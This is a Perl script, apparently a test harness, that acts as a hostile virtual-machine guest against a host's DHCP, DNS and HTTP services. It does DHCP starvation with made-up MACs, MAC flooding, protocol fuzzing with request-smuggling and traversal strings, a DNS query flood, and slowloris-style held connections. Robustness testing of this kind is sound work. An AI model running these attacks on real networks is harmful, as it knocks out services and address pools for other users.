#!/usr/bin/perl
# What a hostile guest sends, as whole frames: by a packet socket, with nothing of its own kernel between.
#
#   attack.pl dhcp NIC KEY=VALUE...   one DHCP exchange; prints the ADDRESS it got, or `none`
#   attack.pl starve NIC COUNT SEED   as many exchanges from made-up MACs; prints how many got an address
#   attack.pl udp NIC KEY=VALUE...    UDP packets
#   attack.pl macs NIC COUNT SEED     frames from made-up MAC addresses
#   attack.pl fuzz dhcp NIC COUNT SEED       DHCP packets, all fields made up
#   attack.pl fuzz dns SERVER COUNT SEED     the same for DNS
#   attack.pl fuzz http SERVER COUNT SEED    HTTP requests of made-up bytes
#   attack.pl headers SERVER COUNT BYTES SECONDS   as many connections with a header of that size that never ends,
#                                            held so long; prints how many were closed by the server
#   attack.pl flood SERVER RATE SECONDS SEED DNS questions for made-up names
#   attack.pl ask SERVER NAME TYPE CLASS     one DNS question by numbers; prints `RCODE ANSWERS`, and what the
#                                            answer holds that can be printed
#   attack.pl latency SERVER NAME SECONDS    asks ten times a second; prints how many were lost, and how many
#                                            took more than 100 ms
#
# perl-base alone. A seed gives the same packets again.
use strict;
use warnings;
use Socket;
use Errno;

use constant { AF_PACKET => 17, ETH_P_ALL => 3, ETH_P_IP => 0x0800 };
my %types = (discover => 1, offer => 2, request => 3, decline => 4, ack => 5, nak => 6, release => 7, inform => 8);

my ($verb, @words) = @ARGV;
$| = 1;
my ($nic, $socket);
if ($verb eq 'dhcp') { open_nic(shift @words); dhcp(pairs(@words)) }
elsif ($verb eq 'starve') { open_nic(shift @words); starve(@words) }
elsif ($verb eq 'udp') { open_nic(shift @words); udp(pairs(@words)) }
elsif ($verb eq 'macs') { open_nic(shift @words); macs(@words) }
elsif ($verb eq 'fuzz' && $words[0] eq 'dhcp') { open_nic($words[1]); fuzz_dhcp(@words[2, 3]) }
elsif ($verb eq 'fuzz' && $words[0] eq 'dns') { fuzz_dns(@words[1 .. 3]) }
elsif ($verb eq 'fuzz' && $words[0] eq 'http') { fuzz_http(@words[1 .. 3]) }
elsif ($verb eq 'headers') { headers(@words) }
elsif ($verb eq 'flood') { flood(@words) }
elsif ($verb eq 'ask') { ask(@words) }
elsif ($verb eq 'latency') { latency(@words) }
else { die "unknown verb $verb\n" }

# Seconds with their hundredths; perl-base has no Time::HiRes.
sub now {
    open my $file, '<', '/proc/uptime' or die "/proc/uptime: $!\n";
    return (split ' ', <$file>)[0];
}

sub rest { select undef, undef, undef, shift }

sub pairs { return map { split /=/, $_, 2 } @_ }

sub open_nic {
    $nic = shift;
    socket($socket, AF_PACKET, SOCK_RAW, unpack 'n', pack 'S', ETH_P_ALL) or die "socket: $!\n";
    bind $socket, link_address() or die "bind: $!\n";
}

sub link_address {
    open my $file, '<', "/sys/class/net/$nic/ifindex" or die "$nic: $!\n";
    return pack 'S n i S C C a8', AF_PACKET, ETH_P_ALL, <$file>, 0, 0, 6, "\0" x 8;
}

sub own_mac {
    open my $file, '<', "/sys/class/net/$nic/address" or die "$nic: $!\n";
    chomp(my $text = <$file>);
    return $text;
}

sub mac { return pack 'C6', map hex, split /:/, shift }

sub checksum {
    my $sum = 0;
    $sum += $_ for unpack 'n*', length($_[0]) % 2 ? "$_[0]\0" : $_[0];
    $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
    return ~$sum & 0xffff;
}

# Keys: src, dst (MAC), from, to (IP), sport, dport.
sub frame_of {
    my ($payload, %is) = @_;
    my $udp = pack('n4', $is{sport}, $is{dport}, 8 + length $payload, 0) . $payload;
    my $ip = pack 'C C n n n C C n a4 a4', 0x45, 0, 20 + length $udp, 0, 0, 64, 17, 0, inet_aton($is{from}), inet_aton($is{to});
    substr $ip, 10, 2, pack 'n', checksum($ip);
    return mac($is{dst}) . mac($is{src}) . pack('n', ETH_P_IP) . $ip . $udp;
}

sub out { send $socket, $_[0], 0, link_address() or die "send: $!\n" }

# Keys of frame_of, and text, count.
sub udp {
    my %is = (src => own_mac(), dst => 'ff:ff:ff:ff:ff:ff', sport => 4000, text => 'hello', count => 3, @_);
    out(frame_of($is{text}, %is)) for 1 .. $is{count};
}

# Keys of frame_of, and type, chaddr, htype, hlen, ciaddr, giaddr, ask (an address), server, op; `type=lease` is
# a discover and a request for what is offered.
sub dhcp {
    my %is = (
        src => own_mac(), dst => 'ff:ff:ff:ff:ff:ff', from => '0.0.0.0', to => '255.255.255.255',
        sport => 68, dport => 67, op => 1, htype => 1, hlen => 6, ciaddr => '0.0.0.0', giaddr => '0.0.0.0', @_
    );
    $is{chaddr} //= $is{src};
    if ($is{type} ne 'lease') {
        my $xid = say(%is);
        my $answer = $is{type} eq 'release' ? undef : heard($xid, 3);
        print $answer ? "$answer->{type} $answer->{address}\n" : "none\n";
        return;
    }
    my $offer = heard(say(%is, type => 'discover'), 3);
    return print "none\n" unless $offer;
    my $answer = heard(say(%is, type => 'request', ask => $is{ask} // $offer->{address}, server => $offer->{server}), 3);
    print $answer && $answer->{type} == $types{ack} ? "$answer->{address}\n" : "none\n";
}

sub starve {
    my ($count, $seed) = @_;
    srand $seed;
    my $got = 0;
    for (1 .. $count) {
        my %is = (
            src => random_mac(), dst => 'ff:ff:ff:ff:ff:ff', from => '0.0.0.0', to => '255.255.255.255', sport => 68,
            dport => 67, op => 1, htype => 1, hlen => 6, ciaddr => '0.0.0.0', giaddr => '0.0.0.0'
        );
        $is{chaddr} = $is{src};
        my $offer = heard(say(%is, type => 'discover'), 0.3) or next;
        my $answer = heard(say(%is, type => 'request', ask => $offer->{address}, server => $offer->{server}), 0.3);
        $got++ if $answer && $answer->{type} == $types{ack};
    }
    print "$got\n";
}

sub option { return pack 'C C/a', @_ }

sub say {
    my %is = @_;
    my $xid = int rand 2**32;
    my $bootp = pack 'C4 N n n a4 x4 x4 a4 a16 x192 N', $is{op}, $is{htype}, $is{hlen}, 0, $xid, 0, 0x8000,
        inet_aton($is{ciaddr}), inet_aton($is{giaddr}), mac($is{chaddr}), 0x63825363;
    $bootp .= option(53, chr $types{ $is{type} });
    $bootp .= option(50, inet_aton($is{ask})) if $is{ask};
    $bootp .= option(54, inet_aton($is{server})) if $is{server};
    out(frame_of("$bootp\xff", %is));
    return $xid;
}

# The next answer to this transaction; undef after so many seconds.
sub heard {
    my ($xid, $seconds) = @_;
    my $end = now() + $seconds;
    while ((my $left = $end - now()) > 0) {
        my $ready = '';
        vec($ready, fileno $socket, 1) = 1;
        next unless select $ready, undef, undef, $left;
        defined recv $socket, my $frame, 2000, 0 or next;
        next unless length $frame > 282 && unpack('n', substr $frame, 12, 2) == ETH_P_IP;
        my $packet = substr $frame, 14;
        my $length = 4 * (ord($packet) & 15);
        next unless ord(substr $packet, 9, 1) == 17 && unpack('n', substr $packet, $length + 2, 2) == 68;
        my $bootp = substr $packet, $length + 8;
        next unless length $bootp > 240 && unpack('N', substr $bootp, 4, 4) == $xid;
        my %option;
        for (my $at = 240; $at < length $bootp && ord(substr $bootp, $at, 1) != 255;) {
            my ($code, $size) = unpack 'C2', substr $bootp, $at, 2;
            if ($code == 0) { $at++; next }
            $option{$code} = substr $bootp, $at + 2, $size;
            $at += 2 + $size;
        }
        return {
            type => ord($option{53} // "\0"),
            address => inet_ntoa(substr $bootp, 16, 4),
            server => inet_ntoa($option{54} // "\0" x 4)
        };
    }
    return undef;
}

sub random_mac { return sprintf '02:%02x:%02x:%02x:%02x:%02x', map { int rand 256 } 1 .. 5 }

sub bytes { return join '', map { chr int rand 256 } 1 .. shift }

sub pick { return $_[int rand @_] }

sub macs {
    my ($count, $seed) = @_;
    srand $seed;
    out(frame_of('flood', src => random_mac(), dst => 'ff:ff:ff:ff:ff:ff', from => '0.0.0.0', to => '255.255.255.255', sport => 9, dport => 9))
        for 1 .. $count;
}

# Half of the packets are nearly right, so that they get past the first checks of their reader.
sub fuzz_dhcp {
    my ($count, $seed) = @_;
    srand $seed;
    my $own = own_mac();
    for (1 .. $count) {
        my $src = pick($own, $own, random_mac());
        my $bootp = pack 'C4 N n n a4 a4 a4 a4 a16 a64 a128 N',
            pick(1, 1, 1, 2, int rand 256), pick(1, 1, 6, int rand 256), pick(6, 6, 0, 3, 8, 16, int rand 256), pick(0, int rand 256),
            int rand 2**32, pick(0, int rand 65536), pick(0, 0x8000, int rand 65536),
            (map { pick("\0" x 4, bytes(4), inet_aton('192.168.1.10'), inet_aton('10.20.0.1')) } 1 .. 4),
            pick(mac($src), bytes(16)), pick('', bytes(64)), pick('', bytes(128)), pick(0x63825363, 0x63825363, int rand 2**32);
        $bootp .= option(53, chr pick(1, 3, 4, 7, 8, int rand 256));
        $bootp .= option(pick(12, 15, 50, 54, 55, 61, 81, 82, int rand 256), bytes(int rand 60)) for 1 .. int rand 5;
        $bootp .= pick("\xff", '', bytes(int rand 300));
        out(frame_of(
            $bootp, src => $src, dst => 'ff:ff:ff:ff:ff:ff',
            from => pick('0.0.0.0', '0.0.0.0', '10.20.0.77', '192.168.1.10'), to => pick('255.255.255.255', '10.20.0.1', '192.168.1.10'),
            sport => pick(68, 68, int rand 65536), dport => 67
        ));
    }
}

sub resolver {
    socket(my $question, PF_INET, SOCK_DGRAM, 17) or die "socket: $!\n";
    connect $question, pack_sockaddr_in(53, inet_aton(shift)) or die "connect: $!\n";
    return $question;
}

sub fuzz_dns {
    my ($server, $count, $seed) = @_;
    srand $seed;
    my $question = resolver($server);
    for (1 .. $count) {
        my $name = join '', map { pack 'C/a', bytes(int rand 64) } 1 .. int rand 5;
        my $packet = pack 'n6', int rand 65536, pick(0x0100, int rand 65536), pick(1, int rand 65536), map { pick(0, int rand 65536) } 1 .. 3;
        $packet .= $name . pick("\0", "\xc0\x0c", '') . pack 'n2', pick(1, 12, 16, 255, int rand 65536), pick(1, 3, int rand 65536);
        $packet = bytes(int rand 512) if rand() < 0.1;
        send $question, $packet, 0; # refused ports and full queues are no failure of the test
        rest(0.01) if $_ % 100 == 0;
    }
}

sub question {
    my ($id, $name, $type, $class) = @_;
    return pack('n6', $id, 0x0100, 1, 0, 0, 0) . join('', map { pack 'C/a', $_ } split /\./, $name) . "\0" . pack 'n2', $type, $class;
}

# The answer within so many seconds; undef without one.
sub answer_to {
    my ($resolver, $question, $seconds) = @_;
    send $resolver, $question, 0;
    my $end = now() + $seconds;
    while ((my $left = $end - now()) > 0) {
        my $ready = '';
        vec($ready, fileno $resolver, 1) = 1;
        next unless select $ready, undef, undef, $left;
        defined recv $resolver, my $answer, 4096, 0 or next;
        return $answer if substr($answer, 0, 2) eq substr $question, 0, 2;
    }
    return undef;
}

sub ask {
    my ($server, $name, $type, $class) = @_;
    my $answer = answer_to(resolver($server), question(4711, $name, $type, $class), 3);
    return print "none\n" unless defined $answer;
    my (undef, $flags, undef, $answers) = unpack 'n4', $answer;
    (my $text = $answer) =~ s/[^ -~]+/ /g;
    print $flags & 15, " $answers $text\n";
}

sub latency {
    my ($server, $name, $seconds) = @_;
    my ($end, $lost, $late, $id) = (now() + $seconds, 0, 0, 0);
    while (now() < $end) {
        my $start = now();
        my $answer = answer_to(resolver($server), question(++$id, $name, 1, 1), 1);
        $lost++ unless defined $answer;
        $late++ if defined $answer && now() - $start > 0.1;
        rest(0.1);
    }
    print "$lost $late\n";
}

sub flood {
    my ($server, $rate, $seconds, $seed) = @_;
    srand $seed;
    my $question = resolver($server);
    my ($start, $sent) = (now(), 0);
    while ((my $passed = now() - $start) < $seconds) {
        while ($sent < $rate * $passed) {
            send $question, pack('n6', $sent % 65536, 0x0100, 1, 0, 0, 0) . pack('C/a', sprintf 'x%012x', int rand 2**40) . "\7example\3net\0" . pack('n2', 1, 1), 0;
            $sent++;
        }
        rest(0.005);
    }
    print "$sent\n";
}

sub proxy {
    socket(my $request, PF_INET, SOCK_STREAM, 6) or die "socket: $!\n";
    return connect($request, pack_sockaddr_in(80, inet_aton(shift))) ? $request : undef;
}

sub fuzz_http {
    my ($server, $count, $seed) = @_;
    srand $seed;
    local $SIG{PIPE} = 'IGNORE';
    for (1 .. $count) {
        my $request = proxy($server) or next;
        syswrite $request, http_bytes();
        shutdown $request, 1;
        my ($ready, $end) = ('', now() + 1);
        vec($ready, fileno $request, 1) = 1;
        while (now() < $end && select my $read = $ready, undef, undef, 0.2) { last unless sysread $request, my $part, 65536 }
        close $request;
    }
}

sub http_bytes {
    return bytes(int rand 2000) if rand() < 0.1;
    my $target = pick('/', '/nginx-01/', '/nginx-01', '//example.org%2f..%2fnotes', '/api/v1/system/infrastructure/status', '/' . bytes(int rand 200), '*', 'http://notes.prox.local/');
    my $text = pick('GET', 'POST', 'CONNECT', 'PRI', 'OPTIONS', bytes(3)) . " $target " . pick('HTTP/1.1', 'HTTP/1.0', 'HTTP/2.0', bytes(4));
    for (0 .. int rand 8) {
        $text .= pick("\r\n", "\r\n", "\n", "\r\n ") . pick(
            'Host: ' . pick('10.20.0.1', 'notes.prox.local', bytes(8)), 'Content-Length: ' . pick(0, -1, int rand 2**40, 'x'), 'Transfer-Encoding: ' . pick('chunked', ' chunked', 'x'),
            'Connection: ' . pick('close', 'Upgrade', 'X-Real-IP'), 'Upgrade: ' . pick('websocket', 'h2c'), 'Expect: 100-continue', 'X_Forwarded_For: 1.2.3.4', 'X: ' . 'a' x int(rand 70000), bytes(int rand 40)
        );
    }
    return $text . pick("\r\n\r\n", "\n\n", '') . pick('', "5\r\nhello\r\n0\r\n\r\n", "ffffffffffffffff\r\n", bytes(int rand 500));
}

sub headers {
    my ($server, $count, $size, $seconds) = @_;
    local $SIG{PIPE} = 'IGNORE';
    my $end = now() + $seconds;
    my @left = map { [ $_, $size ] } grep { defined } map { proxy($server) } 1 .. $count;
    my $opened = @left;
    fcntl $_->[0], 4, 2048 for @left; # F_SETFL, O_NONBLOCK
    syswrite $_->[0], "GET / HTTP/1.1\r\nHost: $server\r\nX: " for @left;
    my $part = 'a' x 16384;
    while (@left && now() < $end) {
        @left = grep {
            my ($request, $more) = @$_;
            my $written = $more > 0 ? syswrite $request, $part : undef;
            $_->[1] -= $written // 0;
            my $got = sysread $request, my $answer, 4096;
            !(defined $got && $got == 0) && (defined $got || $!{EAGAIN});
        } @left;
        rest(0.02);
    }
    print $opened - @left, "\n";
}
